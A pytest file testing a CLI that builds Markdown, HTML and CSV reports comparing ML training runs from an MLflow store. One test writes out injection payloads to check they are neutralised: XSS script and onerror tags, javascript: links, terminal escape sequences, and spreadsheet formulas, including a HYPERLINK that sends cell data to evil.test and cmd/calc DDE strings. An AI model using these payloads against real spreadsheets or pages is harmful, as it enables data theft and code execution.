"""``dmltrain report`` over an MLflow store written here with the names training runs use.

The expectations (which params differ, final and best values, which runs are compared) are
computed in the test from the values it logged, not read back through the report's code.
"""

from __future__ import annotations

import base64
import csv
import math
import re
from pathlib import Path

import pytest

from dmltrain.cli import main
from dmltrain.errors import UserError

UI = "http://ui.test:5000"
PNG = b"\x89PNG\r\n\x1a\n"

BASE = {
    "model.backbone": "small_cnn",
    "optim.lr": "0.01",
    "loss.classifier.sample_ratio": "1.0",
    "data.batch_size": "64",
}
RUNS = {
    # name: (parent?, params, loss curve, (step, recall@1) evaluations, initial recall@1)
    "trial-a": ("tune", {**BASE}, [4.0, 3.0, 2.5, 2.2, 2.0], [(2, 0.40), (4, 0.55)], 0.10),
    "trial-b": ("tune", {**BASE, "optim.lr": "0.1"}, [4.0, 3.5, 3.4, 3.6, 3.9], [(2, 0.30), (4, 0.25)], 0.10),
    "solo": (
        None,
        {**BASE, "loss.classifier.sample_ratio": "0.5", "loss.instance.kind": "ice"},
        [5.0, 4.0, 3.0, 2.0, 1.5],
        [(2, 0.45), (4, 0.50)],
        0.12,
    ),
}
# images/s per log window: the first holds the start-up; the report reads the median of the others
SPEED = {"trial-a": [300.0, 1000.0, 1040.0, 1010.0], "trial-b": [200.0, 990.0, 995.0], "solo": [100.0, 800.0, 1200.0]}
STEADY = {"trial-a": 1010.0, "trial-b": 992.5, "solo": 1000.0}
EXPECTED_DIFF = sorted(
    k for k in {k for _, p, *_ in RUNS.values() for k in p} if len({RUNS[n][1].get(k) for n in RUNS}) > 1
)


def _png(path: Path, color: str) -> Path:
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    fig, ax = plt.subplots(figsize=(1, 1), dpi=20)
    ax.plot([0, 1], [0, 1], color=color)
    fig.savefig(path)
    plt.close(fig)
    return path


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    from mlflow import MlflowClient
    from mlflow.entities import Metric, Param

    tmp = tmp_path_factory.mktemp("mlflow")
    uri = f"sqlite:///{tmp}/mlflow.db"
    client = MlflowClient(tracking_uri=uri)
    exp_id = client.create_experiment("dml-exp", artifact_location=(tmp / "artifacts").as_uri())
    client.create_experiment("empty-exp")
    parent = client.create_run(
        exp_id, run_name="tune-parent", tags={"dmltrain.run_name": "tune-parent"}, start_time=1_000
    )
    ids = {"tune-parent": parent.info.run_id}
    plots = tmp / "plots-src"
    plots.mkdir()
    for i, (name, (par, params, loss, evals, initial)) in enumerate(RUNS.items()):
        tags = {"dmltrain.run_name": name, "dmltrain.storage_dir": f"/shared/runs/{name}"}
        if par:
            tags["mlflow.parentRunId"] = parent.info.run_id
        run = client.create_run(exp_id, run_name=name, tags=tags, start_time=10_000 * (i + 1))
        rid = ids[name] = run.info.run_id
        metrics = [Metric("batch/loss", v, 0, s) for s, v in enumerate(loss)]
        # the untrained model's evaluation is the step-0 point of the same series
        metrics += [Metric("eval/recall_at_1", v, 0, s) for s, v in [(0, initial), *evals]]
        metrics += [Metric("eval/recall_at_2", min(1.0, v + 0.1), 0, s) for s, v in evals]
        metrics += [Metric("eval/ranking/map_at_r", v / 2, 0, s) for s, v in evals]
        metrics += [Metric("eval/binary/recall_at_1", v - 0.05, 0, s) for s, v in evals]
        metrics += [Metric("eval/binary/recall_at_2", v, 0, s) for s, v in evals]  # in the CSV only
        metrics += [Metric("eval/num_queries", 160.0, 0, s) for s, _ in evals]  # an older run's bookkeeping
        metrics += [Metric("images_per_s", v, 0, s) for s, v in enumerate(SPEED[name])]
        metrics += [
            Metric("system/cpu_utilization_percentage", 50.0, 0, 4),
            Metric("batch/lr", 0.01, 0, 4),
        ]
        tags["mlflow.note.content"] = f"**{name}: what it trained**\n\n- **Data**: `x`\n\n### Results\n\n- done"
        client.set_tag(rid, "mlflow.note.content", tags["mlflow.note.content"])
        client.log_batch(
            rid, metrics=metrics, params=[Param(k, v) for k, v in {**params, "train.run_name": name}.items()]
        )
        if name != "solo":  # solo logged no plots
            for step in (2, 4):
                client.log_artifact(rid, str(_png(plots / f"recall_at_k-step{step:07d}.png", "red")), "plots")
            client.log_artifact(rid, str(_png(plots / "embeddings-step0000004.png", "blue")), "plots")
        client.set_terminated(rid, "FINISHED", end_time=10_000 * (i + 1) + 95_000)
    client.set_terminated(parent.info.run_id, "FINISHED")
    return {"uri": uri, "exp_id": exp_id, "ids": ids, "tmp": tmp}


def md_table(text: str, heading: str) -> tuple[list[str], list[list[str]]]:
    block = text.split(f"## {heading}\n", 1)[1].strip().split("\n\n")
    table = next(b for b in block if b.startswith("|"))
    rows = [[c.strip() for c in re.split(r"(?<!\\)\|", line)[1:-1]] for line in table.splitlines()]
    return rows[0], rows[2:]


@pytest.fixture(scope="module")
def full_report(store, tmp_path_factory):
    from dmltrain.report.cli import build_report

    out = tmp_path_factory.mktemp("report")
    return build_report("dml-exp", out=out, tracking_uri=store["uri"], ui_url=UI, progress=False), out


def test_children_replace_their_parent_in_start_order(full_report):
    rep, _ = full_report
    assert [r.name for r in rep.records] == ["trial-a", "trial-b", "solo"]


def _name(cell: str) -> str:
    return cell.split("]")[0].lstrip("[") if cell.startswith("[") else cell


def by_label(rows: list[list[str]]) -> dict[str, list[str]]:
    return {r[0]: r[1:] for r in rows}


def test_runs_table_shows_exactly_the_params_that_differ(full_report, store):
    rep, out = full_report
    head, rows = md_table(rep.markdown.read_text(), "Runs")
    # three runs: one column each (the table fits a page), a row per param that differs
    assert head[0] == "" and [_name(h) for h in head[1:]] == ["trial-a", "trial-b", "solo"]
    for h, name in zip(head[1:], ["trial-a", "trial-b", "solo"]):
        url = f"{UI}/#/experiments/{store['exp_id']}/runs/{store['ids'][name]}?workflowType=machine_learning"
        assert h == f"[{name}]({url})"
    assert [r[0] for r in rows] == ["status", "started", "duration", *EXPECTED_DIFF]
    assert EXPECTED_DIFF == ["loss.classifier.sample_ratio", "loss.instance.kind", "optim.lr"]
    cells = by_label(rows)
    assert cells["status"] == ["FINISHED"] * 3 and cells["duration"] == ["1m35s"] * 3
    for k in EXPECTED_DIFF:
        assert cells[k] == [RUNS[n][1].get(k, "—") for n in ("trial-a", "trial-b", "solo")]


def test_final_metrics_best_only_among_comparable_runs(full_report):
    rep, _ = full_report
    head, rows = md_table(rep.markdown.read_text(), "Final metrics")
    names = ["trial-a", "trial-b", "solo"]
    assert head[0] == "metric" and [_name(h) for h in head[1:]] == names
    assert [r[0] for r in rows] == [
        "recall@1",
        "recall@2",
        "map@r",
        "binary/recall@1",
        "untrained recall@1",
        "loss (last, drawn classes only)",
        "images/s",
        "best recall@1 (step)",
    ]
    cells = by_label(rows)
    finals = [RUNS[n][3][-1][1] for n in names]
    # every run was evaluated on the same data: one group for the evaluation metrics
    assert cells["recall@1"] == [f"**{v:.4f}**" if v == max(finals) else f"{v:.4f}" for v in finals]
    initial = [RUNS[n][4] for n in names]
    assert cells["untrained recall@1"] == [f"**{v:.4f}**" if v == max(initial) else f"{v:.4f}" for v in initial]
    # the loss of solo (half the classes, plus ICE) is not comparable with the trials': only they compete
    losses = [RUNS[n][2][-1] for n in names]
    assert cells["loss (last, drawn classes only)"] == [f"**{losses[0]:.4f}**", f"{losses[1]:.4f}", f"{losses[2]:.4f}"]
    # speed: the median of the windows after the first, the same aggregation as the study's
    assert cells["images/s"] == [f"**{STEADY['trial-a']:,.1f}**", f"{STEADY['trial-b']:,.1f}", f"{STEADY['solo']:,.1f}"]
    for n, cell in zip(names, cells["best recall@1 (step)"]):
        best_step, best = max(RUNS[n][3], key=lambda sv: sv[1])
        assert cell == f"{best:.4f} ({best_step})"  # trial-b: best 0.30 at step 2, final 0.25
    md = rep.markdown.read_text()
    assert "system/" not in md and "batch/lr" not in md and "num_queries" not in md and "binary/recall@2" not in md
    assert "among the runs it can be compared with" in md


def test_comparable_groups_and_many_runs_as_rows():
    from dmltrain.report.compare import best_cells, comparable_groups, metric_columns, metrics_table
    from dmltrain.report.runs import RunRecord

    def rec(i, ratio, shards, r1, loss):
        return RunRecord(
            f"id{i}",
            f"r{i}",
            "1",
            "FINISHED",
            0,
            1000,
            {"loss.classifier.sample_ratio": ratio, "data.shards": shards},
            {"eval/recall_at_1": r1, "batch/loss": loss},
            {},
            {"batch/loss": [(1, loss)]},
        )

    recs = [rec(0, "1", "a", 0.5, 2.0), rec(1, "1", "a", 0.6, 3.0), rec(2, "0.1", "a", 0.7, 1.0)]
    recs += [rec(i, "0.1", "b", 0.9, 0.5) for i in range(3, 8)]
    assert comparable_groups(recs, "eval") == [[0, 1, 2], [3, 4, 5, 6, 7]]
    assert comparable_groups(recs, "loss") == [[0, 1], [2], [3, 4, 5, 6, 7]]
    cols = metric_columns(recs)
    assert [c.header for c in cols] == ["recall@1", "loss (last, drawn classes only)"]
    # recall@1: 0.7 is the best on shards a, the five equal runs on b all are; loss: run 2 has no peer
    assert best_cells(recs, cols) == {0: {2, 3, 4, 5, 6, 7}, 1: {0, 3, 4, 5, 6, 7}}
    t = metrics_table(recs, [f"u{i}" for i in range(8)])  # eight runs: one row each
    assert t.head == ["run", "recall@1", "loss (last, drawn classes only)", "best recall@1 (step)"] and len(t.rows) == 8
    assert (2, 1) in t.bold and (2, 2) not in t.bold and t.links[(7, 0)] == "u7"


def test_the_loss_figure_overlays_a_loss_that_compares_across_sample_ratios():
    from dmltrain.report.compare import curves, loss_figure
    from dmltrain.report.runs import RunRecord

    def rec(i, ratio, full=None):
        hist = {"batch/loss": [(1, 6.2 - i), (2, 6.0 - i)]}
        if full is not None:
            hist["softmax/probe/full_loss"] = full
        return RunRecord(
            f"id{i}", f"r{i}", "1", "FINISHED", 0, 1, {"loss.classifier.sample_ratio": ratio}, {}, {}, hist
        )

    # both runs probed the full softmax: its loss is overlaid, not the sampled softmax's
    both = [rec(0, "1", [(1, 6.2), (2, 6.0)]), rec(1, "0.1", [(1, 6.3), (2, 6.1)])]
    which, title = loss_figure(both)
    assert which == "full_loss" and "the same loss at every sample ratio" in title
    assert curves(both, which)["r1"] == ([1, 2], [6.3, 6.1])
    # one did not: the objective, said not comparable across the ratios; one ratio (1 and 1.0): nothing to say
    which, title = loss_figure([both[0], rec(1, "0.1")])
    assert which == "loss" and "not comparable across sample ratios" in title
    assert "not comparable" not in loss_figure([rec(0, "1"), rec(1, "1.0")])[1]


def test_overlaid_curves(full_report):
    from dmltrain.report.compare import curves

    rep, out = full_report
    loss = curves(rep.records, "loss")
    recall = curves(rep.records, "recall")
    for name, (_, _, ls, evals, initial) in RUNS.items():
        assert loss[name] == (list(range(len(ls))), ls)
        assert recall[name] == ([0] + [s for s, _ in evals], [initial] + [v for _, v in evals])
    for key in ("loss", "recall_at_1"):
        assert rep.figures[key] == out / f"{key}.png" and rep.figures[key].read_bytes().startswith(PNG)


def test_html_is_self_contained_and_links_to_mlflow(full_report, store):
    rep, out = full_report
    page = rep.html.read_text()
    srcs = re.findall(r'<img[^>]*src="([^"]+)"', page)
    assert len(srcs) == 2 + 2 * 2  # two overlays; two plot kinds for each of the two runs with plots
    for src in srcs:
        assert src.startswith("data:image/png;base64,") and base64.b64decode(src.split(",", 1)[1]).startswith(PNG)
    for name in RUNS:  # each run's page, opening in MLflow's model-training view
        url = f"{UI}/#/experiments/{store['exp_id']}/runs/{store['ids'][name]}?workflowType=machine_learning"
        assert f'href="{url}"' in page
    assert page.count("<b>Data</b>") == 3  # each run's description
    assert store["ids"]["tune-parent"] not in page.split("compare-runs")[0]  # the parent is not a compared row
    compare = re.search(r'href="([^"]*compare-runs[^"]*)"', page).group(1)
    assert all(store["ids"][n] in compare for n in RUNS) and compare.endswith("workflowType=machine_learning")
    for href in re.findall(r'href="(runs/[^"]+)"', page):  # earlier plots: linked files that exist
        assert (out / href).is_file()
    assert "<td" in page and "/shared/runs/trial-a" in page


def test_each_runs_plots_are_copied_and_the_latest_shown(full_report):
    rep, out = full_report
    md = rep.markdown.read_text()
    for name in ("trial-a", "trial-b"):
        files = sorted(p.name for p in (out / "runs" / name / "plots").iterdir())
        assert files == ["embeddings-step0000004.png", "recall_at_k-step0000002.png", "recall_at_k-step0000004.png"]
        assert f"![recall_at_k](runs/{name}/plots/recall_at_k-step0000004.png)" in md
        assert f"[recall_at_k-step0000002](runs/{name}/plots/recall_at_k-step0000002.png)" in md
    assert not (out / "runs" / "solo").exists() and "No plots logged." in md
    with open(rep.csv) as f:
        rows = list(csv.DictReader(f))
    assert [r["run"] for r in rows] == ["trial-a", "trial-b", "solo"]
    assert float(rows[1]["recall@1"]) == RUNS["trial-b"][3][-1][1] and rows[2]["loss.instance.kind"] == "ice"
    assert float(rows[0]["binary/recall@2"]) == RUNS["trial-a"][3][-1][1] and "num_queries" not in rows[0]
    assert float(rows[0]["images/s"]) == STEADY["trial-a"] and float(rows[0]["untrained recall@1"]) == 0.10


def test_choosing_runs_by_parent_name_and_id(store, tmp_path, capsys):
    args = ["report", "--experiment", "dml-exp", "--tracking-uri", store["uri"], "--no-progress", "--ui-url", UI]
    assert main([*args, "--runs", "tune-parent", "--out", str(tmp_path / "a")]) == 0
    out = capsys.readouterr().out
    assert "trial-a" in out and "trial-b" in out and "solo" not in out and "report of 2 runs" in out
    assert main([*args, "--runs", f"solo,{store['ids']['trial-a']}", "--out", str(tmp_path / "b")]) == 0
    head, rows = md_table((tmp_path / "b" / "report.md").read_text(), "Runs")
    assert [_name(h) for h in head[1:]] == ["solo", "trial-a"]
    assert [r[0] for r in rows][3:] == ["loss.classifier.sample_ratio", "loss.instance.kind"]


def test_unknown_input_is_one_line_and_nonzero(store, tmp_path, monkeypatch, capsys):
    base = ["report", "--tracking-uri", store["uri"], "--no-progress", "--out", str(tmp_path / "x")]
    assert main([*base, "--experiment", "nope"]) == 1
    assert main([*base, "--experiment", "empty-exp"]) == 1
    assert main([*base, "--experiment", "dml-exp", "--runs", "no-such-run"]) == 1
    assert main(["report", "--experiment", "dml-exp", "--tracking-uri", f"sqlite:///{tmp_path}/missing.db"]) == 2
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("MLFLOW_TRACKING_URI", raising=False)
    assert main(["report", "--experiment", "dml-exp"]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 5 and all(line.startswith("dmltrain: error: ") for line in err)
    assert "--experiment nope: no such experiment" in err[0] and "dml-exp" in err[0]
    assert "no runs to compare" in err[1] and "--runs no-such-run" in err[2] and "mlflow.db" in err[4]
    assert not (tmp_path / "missing.db").exists()  # nothing created on the way
    # a name with control characters comes back without them (it reached the terminal raw)
    assert main([*base, "--experiment", "\x1b[2J\x1b]0;x\x07ev\u202eil\r"]) == 1
    err = capsys.readouterr().err
    assert "--experiment [2J]0;xevil : no such experiment" in err and err.count("\n") == 1  # the CR: a space
    assert not any(c in err for c in "\x1b\x07\u202e\r"), repr(err)


def test_single_run_report(store, tmp_path):
    from dmltrain.report.cli import build_report

    rep = build_report("dml-exp", ["solo"], tmp_path, store["uri"], UI, progress=False)
    md = rep.markdown.read_text()
    # what was trained (the run's description), on what, how well: its evaluations step by step
    assert md.startswith("# Experiment `dml-exp`: run solo") and "## What was trained" in md
    assert "**solo: what it trained**" in md and "#### Results" in md
    assert "All runs share" not in md and "compare in MLflow" not in md
    head, rows = md_table(md, "Evaluations")
    assert head == ["step", "recall@1", "recall@2", "map@r", "binary/recall@1"]
    _, _, _, evals, initial = RUNS["solo"]
    assert [r[0] for r in rows] == ["0 (untrained)", *(str(s) for s, _ in evals)]
    assert rows[0][1:] == [f"{initial:.4f}", "—", "—", "—"] and rows[-1][1] == f"{evals[-1][1]:.4f}"
    assert "**" not in md_table(md, "Final metrics")[1][0][1]  # nothing to be best against
    assert "<b>solo: what it trained</b>" in rep.html.read_text()
    with pytest.raises(UserError, match="--max-runs"):
        from argparse import Namespace

        from dmltrain.report.cli import run

        run(Namespace(runs=None, max_runs=0))


def test_hostile_names_stay_inert_and_inside_the_output_folder(store, tmp_path, monkeypatch, capsys):
    """Run names and params are anyone's who can write to the store: no raw HTML, link or image of theirs in
    report.md, no live formula in runs.csv, and an experiment named ``..`` writes under ./reports, not here."""
    from mlflow import MlflowClient
    from mlflow.entities import Metric, Param

    client = MlflowClient(tracking_uri=store["uri"])
    exp_id = client.create_experiment("..", artifact_location=(store["tmp"] / "hostile").as_uri())
    names = {
        "<script>alert(1)</script>": '=HYPERLINK("http://evil.test/?"&A1,"click me")',
        '<img src=x onerror="alert(2)">': "+cmd|' /C calc'!A0",
        "[x](javascript:alert(3)) ![y](http://evil.test/t.png)": "@SUM(1+1)*cmd|' /C calc'!A0",
        "=1+2": "-0.5",
    }
    for i, (name, note) in enumerate(names.items()):
        run = client.create_run(exp_id, run_name=name, tags={"dmltrain.run_name": name}, start_time=1_000 * (i + 1))
        client.log_batch(run.info.run_id, metrics=[Metric("loss", 1.0 + i, 0, 1)], params=[Param("note", note)])
        client.set_terminated(run.info.run_id, "FINISHED", end_time=1_000 * (i + 1) + 500)
    monkeypatch.chdir(tmp_path)
    assert main(["report", "--experiment", "..", "--tracking-uri", store["uri"], "--no-progress"]) == 0
    printed = capsys.readouterr().out
    assert sorted(p.name for p in tmp_path.iterdir()) == ["reports"]  # nothing beside it, nothing above it
    out = tmp_path / "reports" / "experiment"
    md = (out / "report.md").read_text()
    for raw in (r"<script", r"<img", r"(?<!\\)\]\(javascript:", r"!\[y"):  # a tag, a link or an image
        assert not re.search(raw, md) and not re.search(raw, printed), raw
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in md and "\\[x\\](javascript:alert(3))" in md
    with (out / "runs.csv").open(newline="") as f:
        rows = {r["run"]: r for r in csv.DictReader(f)}
    assert rows["<script>alert(1)</script>"]["note"] == "'" + names["<script>alert(1)</script>"]
    assert rows["'=1+2"]["note"] == "-0.5"  # a number stays a number
    cells = [c for r in rows.values() for c in r.values() if c]
    assert not any(c.startswith(("=", "+", "@")) or (c.startswith("-") and c != "-0.5") for c in cells), cells
    html = (out / "report.html").read_text()
    assert "<script>alert" not in html and "<img src=x" not in html


# -- a study parent ---------------------------------------------------------------------------------------------
def test_a_study_parent_gets_its_points_table_verdicts_and_files(tmp_path, capsys):
    from mlflow import MlflowClient

    from dmltrain.report.study import parse_label

    assert parse_label("hard-r0.1-c100k") == ("hard", 0.1, 100_000) and parse_label("r1e-05-c1M") == ("", 1e-05, 10**6)
    assert parse_label("r1-c500") == ("", 1.0, 500) and parse_label("baseline") is None

    uri = f"sqlite:///{tmp_path / 'mlflow.db'}"
    client = MlflowClient(tracking_uri=uri)
    exp = client.create_experiment("st")
    parent = client.create_run(exp, run_name="sub", tags={"dmltrain.kind": "study", "dmltrain.run_name": "sub"})
    pid = parent.info.run_id
    (tmp_path / "art").mkdir()
    (tmp_path / "art" / "study.md").write_text("# Class-subsampling study sub\n")
    (tmp_path / "art" / "tradeoff.png").write_bytes(PNG + b"fake")
    (tmp_path / "art" / "study.csv").write_text("point\n")
    for f in ("study.md", "tradeoff.png", "study.csv"):
        client.log_artifact(pid, str(tmp_path / "art" / f), "study")
    # seeds 0 and 1: Recall@1 0.0100, 0.0100 at ratio 1; 0.0120, 0.0100 at 0.1 (Δ +0.2, 0: seed noise)
    for label, r1s, step_ms in (("r1-c500", (0.0100, 0.0100), 300.0), ("r0.1-c500", (0.0120, 0.0100), 150.0)):
        for seed, r1 in enumerate(r1s):
            tags = {"mlflow.parentRunId": pid, "dmltrain.study.point": label, "dmltrain.study.repeat": str(seed)}
            run = client.create_run(exp, run_name=f"{label}-s{seed}-sub", tags=tags)
            rid = run.info.run_id
            client.log_param(rid, "loss.classifier.sample_ratio", label[1:].split("-")[0])
            client.log_param(rid, "data.synthetic.classes", "500")
            client.log_metric(rid, "eval/recall_at_1", r1, step=10)
            for step in (0, 5, 10):  # an untrained-scale model: the full-softmax loss barely below ln 500 = 6.2146
                client.log_metric(rid, "softmax/probe/full_loss", 6.2146 - 0.001 * step, step=step)
                client.log_metric(rid, "batch/loss", 6.2146 - 0.001 * step - (label != "r1-c500") * 2.3, step=step)
            for step, ms in ((1, 999.0), (2, step_ms), (3, step_ms + seed)):
                client.log_metric(rid, "time/step_ms", ms, step=step)
            client.set_terminated(rid)
    client.set_terminated(pid)

    from dmltrain.report import cli as report_cli

    drawn = {}

    def plot_curves(data, path, ylabel, title, colors, **kw):  # the real figure, its arguments kept
        drawn[Path(path).name] = kw
        return real_plot_curves(data, path, ylabel, title, colors, **kw)

    real_plot_curves, report_cli.plot_curves = report_cli.plot_curves, plot_curves
    try:
        rc = main(["report", "--experiment", "st", "--runs", "sub", "--tracking-uri", uri, "--out", str(tmp_path / "rep"),
                   "--ui-url", "http://ui.example:8080", "--no-progress"])  # fmt: skip
    finally:
        report_cli.plot_curves = real_plot_curves
    printed = capsys.readouterr().out
    assert rc == 0
    # what the report is of: the study's points and seeds, not "4 runs"
    assert "report of study sub: 2 points × 2 seeds (4 runs) from experiment st:" in printed
    # the full-softmax loss from 0 with its chance level (a drop of 0.01 on 6.21 does not fill the figure); the
    # objective labelled as over the drawn classes only, beside the loss that compares
    assert drawn["loss.png"] == {
        "zero": True,
        "levels": {"ln C = 6.21: a uniform softmax over 500 classes": math.log(500)},
    }
    assert "| loss (last, drawn classes only) | 6.2046 | 6.2046 | 3.9046 | 3.9046 |" in printed
    assert "| full-softmax loss (last) | 6.2046 | 6.2046 | 6.2046 | 6.2046 |" in printed
    # per point: mean ± s.d. of the seeds, the paired Δ and its verdict; the steady step time (first window left out)
    assert "| point | r1-c500 | r0.1-c500 |" in printed
    assert "| Δ recall@1, 95 % interval | — | within noise (+0.1 ± 1.3 points) |" in printed  # 12.706·0.1414/√2
    assert "| recall@1 | 0.0100 ± 0.0000 | 0.0110 ± 0.0014 |" in printed
    assert (
        "| step ms | 300.2 ± 0.4 | 150.2 ± 0.4 |" in printed
        and "| speed-up (×) | 1.00 ± 0.00 | 2.00 ± 0.00 |" in printed
    )
    assert (
        "r0.1-c500: Δ Recall@1 within noise: +0.1 ± 1.3 points (95 % interval over 2 paired seeds; r1-c500 at "
        in printed
    )
    # every printed link: the given UI, MLflow's model-training view
    links = re.findall(r"https?://\S+", printed)
    assert len(links) == 2 and all(
        u.startswith("http://ui.example:8080/#/") and "workflowType=machine_learning" in u for u in links
    )
    assert f"/runs/{pid}?workflowType=machine_learning" in links[1]
    md = (tmp_path / "rep" / "report.md").read_text()
    assert md.startswith("# Experiment `st`: study sub: 2 points × 2 seeds (4 runs)\n")
    assert md.index("## Study sub") < md.index("## Runs")
    # 0.0120 against 0.0100 is one seed's luck: no run's value is bold, the study's table weighs it
    metrics_part = md[md.index("## Final metrics") :]
    assert "**" not in metrics_part[: metrics_part.index("\n## ", 5)] and "No value is bold" in md
    assert f"(http://ui.example:8080/#/experiments/{exp}/runs/{pid}?workflowType=machine_learning)" in md
    assert "[study.md](study/sub/study.md)" in md and "![tradeoff.png](study/sub/tradeoff.png)" in md
    assert (tmp_path / "rep" / "study" / "sub" / "tradeoff.png").read_bytes() == PNG + b"fake"
    assert not (tmp_path / "rep" / "study" / "sub" / "study.csv").exists()
    page = (tmp_path / "rep" / "report.html").read_text()
    assert "<h1>Experiment <code>st</code>: study sub: 2 points × 2 seeds (4 runs)</h1>" in page
    assert "<h2>Study sub</h2>" in page and "within noise (+0.1 ± 1.3 points)" in page
